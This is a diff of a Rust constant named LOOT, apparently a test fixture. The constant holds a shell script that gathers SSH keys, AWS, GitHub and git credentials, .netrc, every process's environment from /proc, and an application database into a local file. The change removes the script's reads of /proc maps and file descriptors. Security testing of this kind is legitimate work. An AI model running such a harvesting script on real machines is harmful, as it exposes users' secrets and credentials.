@@ -81,7 +81,7 @@ const LOOT: &str = r#"
     { env; cat "$HOME"/.ssh/* "$HOME"/.netrc "$HOME"/.aws/* "$HOME"/.config/gh/* "$HOME"/.config/overnight/* "$HOME"/.git-credentials
       cat "$HOME"/plain
       for p in $PPID 1 $(ls /proc | grep '^[0-9]'); do tr '\0' '\n' </proc/$p/environ; tr '\0' ' ' </proc/$p/cmdline; done
-      cat /proc/[0-9]*/maps >/dev/null; ls -l /proc/[0-9]*/fd; cat /proc/[0-9]*/fd/[0-9] </dev/null
+      ls -l /proc/[0-9]*/fd
       strings "$DATA"/overnight.db*; cat "$DATA"/jobs/*/log/*; cat "$DATA"/overnight.db*
     } >loot 2>/dev/null </dev/null
     :
